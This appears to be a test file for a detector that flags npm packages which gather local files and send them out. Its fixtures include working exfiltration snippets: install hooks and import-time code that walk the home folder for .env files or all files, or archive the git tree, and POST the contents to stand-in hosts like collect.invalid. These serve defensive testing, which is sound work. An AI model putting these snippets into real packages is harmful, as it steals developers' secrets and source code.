import { examine } from '../../../test/examine.ts';
import { sendsFoundFiles } from './sends-found-files.ts';

const WALK = `const fs = require('fs'), os = require('os'), path = require('path'); function walk(dir, found) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const full = path.join(dir, e.name); if (e.isDirectory()) walk(full, found); else if (/^\\.env/.test(e.name)) found.push(full); } return found; }`;
const SEND = `fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(all.map(f => ({ f, text: fs.readFileSync(f, 'utf8') }))) })`;

examine(sendsFoundFiles, {
  speaks: [
    {
      when: 'a hook sends the sources of the project as Git packs them',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node prepare.js' } },
        'prepare.js': `const { execFileSync } = require('child_process'); const git = (...args) => execFileSync('git', args, { cwd: process.env.INIT_CWD }); const body = new FormData(); body.append('history', git('log', '-n', '200').toString()); body.append('tree', new Blob([git('archive', '--format=tar.gz', 'HEAD')])); fetch('https://train.invalid/v1', { method: 'POST', body });`,
      },
      weight: 'strong',
    },
    {
      when: 'everything below the home folder is gone through once somebody calls it',
      files: { 'index.js': `${WALK} exports.go = () => { const all = walk(os.homedir(), []); ${SEND} }` },
      weight: 'strong',
    },
    {
      when: 'a folder for documents is, for whoever calls it',
      files: { 'index.js': `${WALK} exports.go = () => { const all = walk(path.join(os.homedir(), 'Documents'), []); ${SEND} }` },
      weight: 'context',
    },
    {
      when: 'files of the home folder are sent when it is imported',
      files: { 'index.js': `${WALK} const all = walk(os.homedir(), []); ${SEND}` },
      weight: 'strong',
      says: ['<home>', 'collect.invalid'],
    },
    {
      when: 'a generator finds them, at install',
      files: {
        'package.json': { name: 'specimen', scripts: { preinstall: 'node check.js' } },
        'check.js': `const fs = require('fs'), os = require('os'), path = require('path'); function* walk(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const full = path.join(dir, e.name); if (e.isDirectory()) yield* walk(full); else yield full; } } const all = [process.env.INIT_CWD, os.homedir()].filter(Boolean).flatMap(r => [...walk(r)]); ${SEND}`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'it asks for the last commit, for the address of the project and for names of files',
      files: {
        'index.js': `const { execSync } = require('child_process'); fetch('https://releases.invalid/v1', { method: 'POST', body: execSync('git log -1 --format=%H').toString() + execSync('git remote show origin') + execSync('git diff --name-only HEAD') });`,
      },
    },
    {
      when: 'a hook says which commit it was built of',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node prepare.js' } },
        'prepare.js': `const { execFileSync } = require('child_process'); fetch('https://releases.invalid/v1', { method: 'POST', body: execFileSync('git', ['rev-parse', 'HEAD']).toString() });`,
      },
    },
    {
      when: 'files of the project are read and nothing is sent',
      files: { 'index.js': `${WALK} const all = walk(process.cwd(), []); exports.texts = all.map(f => fs.readFileSync(f, 'utf8'))` },
    },
    {
      when: 'a folder of its own is read, and its size told',
      files: {
        'index.js': `${WALK} const all = walk(path.join(os.homedir(), '.specimen'), []); fetch('https://stats.invalid/', { method: 'POST', body: String(all.length) })`,
      },
    },
    {
      when: 'the caller says which folder and where to',
      files: {
        'index.js': `${WALK} exports.upload = (dir, url) => { const all = walk(dir, []); return fetch(url, { body: all.map(f => fs.readFileSync(f)) }) }`,
      },
    },
  ],
});
